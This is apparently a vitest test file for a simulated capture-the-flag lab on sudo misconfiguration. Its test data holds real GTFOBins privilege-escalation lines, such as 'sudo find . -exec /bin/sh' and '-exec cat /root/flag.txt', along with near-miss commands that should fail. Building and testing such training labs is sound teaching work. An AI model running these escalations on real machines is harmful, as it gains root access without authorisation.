import { describe, expect, it } from 'vitest';

import { expectFlag, expectNoFlag, runLab, TEST_FLAG } from '../lab-test-helpers.js';

import { sudoMisconfigurationLab } from './sudo-misconfiguration.js';

/** Types `lines` one by one, as the page does (each with the lines before it), and answers the last result. */
function session(...lines: string[]) {
  let result = runLab(sudoMisconfigurationLab, 'run', { command: lines[0] ?? '' });
  for (let i = 1; i < lines.length; i += 1)
    result = runLab(sudoMisconfigurationLab, 'run', { history: lines.slice(0, i).join('\n'), command: lines[i] ?? '' });
  return result;
}

describe('sudo-misconfiguration lab: GTFOBins escapes through sudo find read the flag', () => {
  it.each([
    ['a root shell, then cat', ['sudo find . -exec /bin/sh \\; -quit', 'cat /root/flag.txt']],
    ['quoted ; and bash', ["sudo find . -exec bash ';' -quit", 'id', 'cat /root/flag.txt']],
    ['sh -c in the -exec', ["sudo find /root -name flag.txt -exec sh -c 'cat {}' \\;"]],
    ['cat straight from -exec', ['sudo find /root -name "flag*" -exec cat {} \\;']],
    ['the full path, -u root and +', ['sudo -u root /usr/bin/find /root/flag.txt -exec cat {} +']],
    [
      'a root shell after some looking around',
      ['sudo -l', 'sudo find . -exec /bin/sh \\; -quit', 'whoami', 'ls /root', 'cat /root/flag.txt'],
    ],
  ])('%s', (_name, lines) => {
    const result = session(...lines);
    expect(result.code).toBe('flag-read');
    expect(result.output.text).toContain(TEST_FLAG);
    expectFlag(result);
  });

  it('shows a root prompt in the shell find started, and id says root', () => {
    const shell = session('sudo find . -exec /bin/sh \\; -quit');
    expect(shell.output.prompt).toBe('# ');
    expect(session('sudo find . -exec /bin/sh \\; -quit', 'id').output.text).toBe('uid=0(root) gid=0(root) groups=0(root)\n');
  });
});

describe('sudo-misconfiguration lab: near-misses fail, with real messages', () => {
  it.each([
    ['reading it as player', ['cat /root/flag.txt'], 'cat: /root/flag.txt: Permission denied\n'],
    ['sudo cat', ['sudo cat /root/flag.txt'], '[sudo] password for player: \nsudo: a password is required\n'],
    ['sudo -s', ['sudo -s'], '[sudo] password for player: \nsudo: a password is required\n'],
    ['sudo as another user', ['sudo -u player find /root'], '[sudo] password for player: \nsudo: a password is required\n'],
    ['find without sudo', ['find /root -exec cat {} \\;'], 'cat: /root: Is a directory\nfind: ‘/root’: Permission denied\n'],
  ])('%s', (_name, lines, text) => {
    const result = session(...lines);
    expect(result.output.text).toBe(text);
    expectNoFlag(result);
  });

  it.each([
    ['a shell from find without sudo', ['find . -exec /bin/sh \\; -quit', 'cat /root/flag.txt']],
    ['the root shell left with exit', ['sudo find . -exec /bin/sh \\; -quit', 'exit', 'cat /root/flag.txt']],
    ['a command on the same line as the escape runs in the caller', ['sudo find . -exec /bin/sh \\; -quit; cat /root/flag.txt']],
    ['a -exec that never ends', ['sudo find . -exec cat /root/flag.txt']],
    ['find -name finds the file but does not read it', ['sudo find / -name flag.txt']],
    ['a program that does not exist', ['sudo vim -c ":!/bin/sh"']],
  ])('%s', (_name, lines) => {
    const result = session(...lines);
    expect(result.ok).toBe(false);
    expectNoFlag(result);
  });

  it('lists the rule with sudo -l', () => {
    const result = session('sudo -l');
    expect(result.output.text).toContain(
      'User player may run the following commands on srv01:\n    (root) NOPASSWD: /usr/bin/find\n',
    );
    expectNoFlag(result);
  });

  it('bounds a session that starts shells forever', () => {
    const result = session(...Array.from({ length: 60 }, () => 'sudo find . -exec /bin/sh \\; -quit'), 'cat /root/flag.txt');
    expect(result.output.prompt).toBe('# ');
  });

  it('answers unknown-action to anything else', () => {
    expect(runLab(sudoMisconfigurationLab, 'exec', { command: 'id' }).code).toBe('unknown-action');
  });
});
